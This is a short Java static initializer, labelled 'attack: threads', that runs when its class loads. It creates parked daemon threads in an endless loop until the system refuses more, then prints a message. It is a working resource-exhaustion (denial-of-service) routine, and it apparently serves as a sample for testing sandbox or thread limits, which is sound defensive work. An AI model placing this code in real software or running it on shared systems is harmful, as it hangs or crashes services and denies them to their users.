// Starts threads until the system gives no more, and keeps them.
static {
    System.out.println("attack: threads");
    try {
        while (true) {
            Thread thread = new Thread(() -> {
                while (true) {
                    java.util.concurrent.locks.LockSupport.park();
                }
            });
            thread.setDaemon(true);
            thread.start();
        }
    } catch (Throwable enough) {
        System.out.println("attack: no more threads");
    }
}
